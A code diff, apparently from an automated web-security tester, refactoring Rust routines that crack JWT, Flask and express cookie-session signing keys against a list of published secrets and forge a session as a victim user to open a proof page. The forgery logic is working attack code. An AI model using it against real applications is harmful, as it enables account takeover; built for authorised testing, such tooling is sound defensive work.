@@ -67,52 +67,98 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
         Err(verdict) => return Ok(verdict),
     };
 
-    let tried = tokens::wordlist(tokens::PUBLISHED_SECRETS).count();
     let action = format!(
-        "tried {tried} secrets published in tutorials and docs against the token's {} signature, offline",
+        "tried {} secrets published in tutorials and docs against the token's {} signature, offline",
+        published().count(),
         jwt.alg().unwrap_or("unstated")
     );
-    let cracked = match jwt.alg() {
-        Some("HS256") => tokens::crack(&jwt, tokens::wordlist(tokens::PUBLISHED_SECRETS)),
-        _ => None,
-    };
-    let Some(secret) = cracked else {
-        let evidence = match jwt.alg() {
-            Some("HS256") => format!(
-                "none of the {tried} secrets reproduces the signature: the key is on no published list"
-            ),
-            other => format!(
-                "the token is signed with {}, not HS256: no shared secret to guess from a list",
-                other.unwrap_or("no stated algorithm")
-            ),
-        };
+    if jwt.alg() != Some("HS256") {
+        let evidence = format!(
+            "the token is signed with {}, not HS256: no shared secret to guess from a list",
+            jwt.alg().unwrap_or("no stated algorithm")
+        );
         let step = ctx.step(Actor::Attacker, action, &evidence);
         return Ok(Verdict::blocked(evidence, step));
+    }
+    let secret = match cracked(ctx, action, "key", tokens::crack(&jwt, published())) {
+        Ok(secret) => secret,
+        Err(verdict) => return Ok(verdict),
     };
-    ctx.step(
-        Actor::Attacker,
-        action,
-        format!("HMAC-SHA256 with {secret:?} reproduces the signature: that is the app's key"),
-    );
 
     let mut claims = jwt.claims.clone();
     claims.insert(identity_claim.clone(), ctx.victim.username.clone().into());
     let forged = tokens::sign_hs256(&claims, secret.as_bytes());
+    let did = format!(
+        "signed a token saying \"{identity_claim}\": \"{}\" with the key and opened {} with it",
+        ctx.victim.username,
+        ctx.target.proof_path()
+    );
+    let cookies = [(cookie.as_str(), forged.as_str())];
+    open_with_forgery(
+        ctx,
+        &cookies,
+        did,
+        ("key", secret),
+        "the forged token",
+        &note,
+    )
+    .await
+}
+
+/// The published secrets the attacker tries, offline.
+fn published() -> impl Iterator<Item = &'static str> {
+    tokens::wordlist(tokens::PUBLISHED_SECRETS)
+}
+
+/// The offline crack as one attacker step: `action` says what was tried
+/// against what, `found` the secret that reproduced the signature. None did:
+/// the verdict is `blocked`, the app's `key_name` being on no published list.
+fn cracked(
+    ctx: &mut RunContext,
+    action: String,
+    key_name: &str,
+    found: Option<&'static str>,
+) -> Result<&'static str, Verdict> {
+    let Some(secret) = found else {
+        let evidence = format!(
+            "none of the {} secrets reproduces the signature: the {key_name} is on no published list",
+            published().count()
+        );
+        let step = ctx.step(Actor::Attacker, action, &evidence);
+        return Err(Verdict::blocked(evidence, step));
+    };
+    ctx.step(
+        Actor::Attacker,
+        action,
+        format!("{key_name} {secret:?} reproduces the signature: that is the app's key"),
+    );
+    Ok(secret)
+}
+
+/// Plants the forged `cookies` in a fresh browser of the attacker's and
+/// opens the proof page with them: the verdict is what that page shows.
+/// `key` is the cracked key, named as the app calls it.
+async fn open_with_forgery(
+    ctx: &mut RunContext,
+    cookies: &[(&str, &str)],
+    did: String,
+    (key_name, secret): (&str, &str),
+    what: &str,
+    note: &str,
+) -> Result<Verdict, RunError> {
     let proof = ctx.proof_url();
     let mut forger = ctx.browser(Actor::Attacker, "attacker-forged");
-    plant_cookie(&mut forger, &proof, &cookie, &forged);
+    for (name, value) in cookies {
+        plant_cookie(&mut forger, &proof, name, value);
+    }
     let probe = probe_account(&mut forger, proof).await?;
     Ok(judge(
         ctx,
-        &format!(
-            "signed a token saying \"{identity_claim}\": \"{}\" with the key and opened {} with it",
-            ctx.victim.username,
-            ctx.target.proof_path()
-        ),
+        &did,
         &probe,
-        &note,
-        &format!("the key {secret:?} was on the list of published secrets"),
-        "the forged token",
+        note,
+        &format!("the {key_name} {secret:?} was on the list of published secrets"),
+        what,
     ))
 }
 
@@ -155,24 +201,16 @@ async fn forge_flask(
         ),
     );
 
-    let tried = tokens::wordlist(tokens::PUBLISHED_SECRETS).count();
     let action = format!(
-        "tried {tried} secrets published in tutorials and docs as Flask's secret_key against the cookie's HMAC-SHA1 signature (salt \"{}\"), offline",
+        "tried {} secrets published in tutorials and docs as Flask's secret_key against the cookie's HMAC-SHA1 signature (salt \"{}\"), offline",
+        published().count(),
         tokens::flask::SALT
     );
-    let Some(secret) = tokens::flask::crack(session, tokens::wordlist(tokens::PUBLISHED_SECRETS))
-    else {
-        let evidence = format!(
-            "none of the {tried} secrets reproduces the signature: the secret_key is on no published list"
-        );
-        let step = ctx.step(Actor::Attacker, action, &evidence);
-        return Ok(Verdict::blocked(evidence, step));
+    let found = tokens::flask::crack(session, published());
+    let secret = match cracked(ctx, action, "secret_key", found) {
+        Ok(secret) => secret,
+        Err(verdict) => return Ok(verdict),
     };
-    ctx.step(
-        Actor::Attacker,
-        action,
-        format!("secret_key {secret:?} reproduces the signature: that is the app's key"),
-    );
 
     let mut data = session.data.clone();
     data.insert(key.clone(), ctx.victim.username.clone().into());
@@ -180,22 +218,22 @@ async fn forge_flask(
         .duration_since(UNIX_EPOCH)
         .map_or(0, |since| since.as_secs());
     let forged = tokens::flask::sign(&data, secret.as_bytes(), now);
-    let proof = ctx.proof_url();
-    let mut forger = ctx.browser(Actor::Attacker, "attacker-forged");
-    plant_cookie(&mut forger, &proof, cookie, &forged);
-    let probe = probe_account(&mut forger, proof).await?;
-    Ok(judge(
+    let did = format!(
+        "signed a Flask session saying \"{key}\": \"{}\" with the key, stamped now, and opened {} with it",
+        ctx.victim.username,
+        ctx.target.proof_path()
+    );
+    let cookies = [(cookie, forged.as_str())];
+    let cracked = ("secret_key", secret);
+    open_with_forgery(
         ctx,
-        &format!(
-            "signed a Flask session saying \"{key}\": \"{}\" with the key, stamped now, and opened {} with it",
-            ctx.victim.username,
-            ctx.target.proof_path()
-        ),
-        &probe,
-        note,
-        &format!("the secret_key {secret:?} was on the list of published secrets"),
+        &cookies,
+        did,
+        cracked,
         "the forged session cookie",
-    ))
+        note,
+    )
+    .await
 }
 
 /// The attacker's express cookie-session, if any: a cookie whose value is
@@ -239,45 +277,37 @@ async fn forge_cookie_session(
         ),
     );
 
-    let tried = tokens::wordlist(tokens::PUBLISHED_SECRETS).count();
     let action = format!(
-        "tried {tried} secrets published in tutorials and docs as Keygrip keys against {sig_cookie}, HMAC-SHA1 of \"{cookie}=<value>\", offline"
+        "tried {} secrets published in tutorials and docs as Keygrip keys against {sig_cookie}, HMAC-SHA1 of \"{cookie}=<value>\", offline",
+        published().count()
     );
-    let Some(secret) =
-        tokens::cookie_session::crack(session, tokens::wordlist(tokens::PUBLISHED_SECRETS))
-    else {
-        let evidence = format!(
-            "none of the {tried} secrets reproduces the signature: the key is on no published list"
-        );
-        let step = ctx.step(Actor::Attacker, action, &evidence);
-        return Ok(Verdict::blocked(evidence, step));
+    let found = tokens::cookie_session::crack(session, published());
+    let secret = match cracked(ctx, action, "key", found) {
+        Ok(secret) => secret,
+        Err(verdict) => return Ok(verdict),
     };
-    ctx.step(
-        Actor::Attacker,
-        action,
-        format!("key {secret:?} reproduces the signature: that is the app's key"),
-    );
 
     let mut data = session.data.clone();
     data.insert(key.clone(), ctx.victim.username.clone().into());
     let (value, sig) = tokens::cookie_session::sign(cookie, &data, secret.as_bytes());
-    let proof = ctx.proof_url();
-    let mut forger = ctx.browser(Actor::Attacker, "attacker-forged");
-    plant_cookie(&mut forger, &proof, cookie, &value);
-    plant_cookie(&mut forger, &proof, &sig_cookie, &sig);
-    let probe = probe_account(&mut forger, proof).await?;
-    Ok(judge(
+    let did = format!(
+        "signed a cookie-session saying \"{key}\": \"{}\" with the key, planted it and its {sig_cookie}, and opened {} with them",
+        ctx.victim.username,
+        ctx.target.proof_path()
+    );
+    let cookies = [
+        (cookie.as_str(), value.as_str()),
+        (sig_cookie.as_str(), sig.as_str()),
+    ];
+    open_with_forgery(
         ctx,
-        &format!(
-            "signed a cookie-session saying \"{key}\": \"{}\" with the key, planted it and its {sig_cookie}, and opened {} with them",
-            ctx.victim.username,
-            ctx.target.proof_path()
-        ),
-        &probe,
-        note,
-        &format!("the key {secret:?} was on the list of published secrets"),
+        &cookies,
+        did,
+        ("key", secret),
         "the forged session cookies",
-    ))
+        note,
+    )
+    .await
 }
 
 #[cfg(test)]
